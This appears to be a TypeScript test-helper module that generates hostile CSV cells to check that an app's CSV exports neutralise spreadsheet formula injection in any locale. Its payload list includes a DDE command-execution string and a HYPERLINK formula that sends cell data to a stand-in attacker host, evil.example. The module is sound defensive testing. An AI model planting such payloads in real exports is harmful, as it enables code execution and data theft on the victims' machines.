// How a spreadsheet in any locale may read a CSV file rollcall wrote, for the formula-injection tests.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect } from 'vitest';
import { startsLikeFormula } from '../../src/csv-out/formula.js';

/** Runs per property: 200 locally, more in CI (`FC_RUNS=1000`). */
export const numRuns = Number(process.env.FC_RUNS ?? 200);

/** The list separators a spreadsheet's locale may split a `.csv` on. */
export const localeDelimiters = [',', ';', '\t'] as const;

/** OWASP's formula triggers with their full-width forms. */
export const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'] as const;

const payloads = ['cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example/?"&A1;"Click")', '1+1', 'SUM(A1:A9)', '2', ''];

/**
 * A cell an attacker would write: a trigger, maybe after leading spaces, at the start of the cell or right
 * after a `;` `,` TAB or `|` inside it, followed by a formula.
 */
export const hostileCell: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('', 'Doe', 'a b', 'Zoë'),
    fc.constantFrom('', ';', ',', '\t', '|', '; ', ', '),
    fc.constantFrom('', ' ', '  ', '\u00A0', '\u3000'),
    fc.constantFrom(...triggers),
    fc.constantFrom(...payloads),
    fc.constantFrom('', ';=1+1', ',@SUM(1)', '\t-2'),
  )
  .map(([before, separator, spaces, trigger, payload, tail]) => before + separator + spaces + trigger + payload + tail);

/** A hostile cell without the control characters a name refuses (TAB, CR, LF), so it can reach the results file. */
export const hostileName: fc.Arbitrary<string> = hostileCell.map((cell) => cell.replace(/[\t\r\n]/gu, ' ').trim()).filter((name) => name !== '');

/** `local@example.org` where the local part starts with a trigger the email validator lets through. */
export const hostileEmail: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('=', '+', '-'), fc.constantFrom('cmd', 'SUM', '1', 'HYPERLINK'), fc.nat({ max: 1_000_000 }))
  .map(([trigger, word, n]) => `${trigger}${word}${String(n)}@example.org`);

/**
 * A users file whose cells are written exactly as given (quoted, never neutralised), the way an attacker or
 * a careless admin writes it.
 */
export function rawCsv(rows: readonly (readonly string[])[]): string {
  return rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n') + '\r\n';
}

/** The cells csv-parse reads from `text` with `delimiter`, forgiving quotes as a spreadsheet does. */
export function readLeniently(text: string, delimiter: string): string[][] {
  return parse(text, { delimiter, bom: true, relax_quotes: true, relax_column_count: true, skip_empty_lines: false });
}

/** The cells csv-parse reads from `text` with the delimiter it was written with, strictly. */
export function readStrictly(text: string, delimiter: string): string[][] {
  return parse(text, { delimiter, bom: true, record_delimiter: ['\r\n', '\n'] });
}

/**
 * Every piece a reader that ignores quotes altogether would make a cell of: the text between any two
 * separators or line breaks.
 */
export function quoteBlindPieces(text: string): string[] {
  return text.replace(/^\uFEFF/u, '').split(/[,;\t|\r\n]/u);
}

/**
 * Asserts that no cell of `text` starts like a formula, whichever of `,` `;` TAB a spreadsheet splits it on,
 * and even for a reader that ignores quotes; `what` names the output in the failure.
 */
export function expectNoFormulaInAnyLocale(text: string, what: string): void {
  for (const delimiter of localeDelimiters) {
    const cells = readLeniently(text, delimiter).flat();
    expect(cells.filter(startsLikeFormula), `${what} read with ${JSON.stringify(delimiter)}`).toEqual([]);
  }
  expect(quoteBlindPieces(text).filter(startsLikeFormula), `${what} read ignoring quotes`).toEqual([]);
}
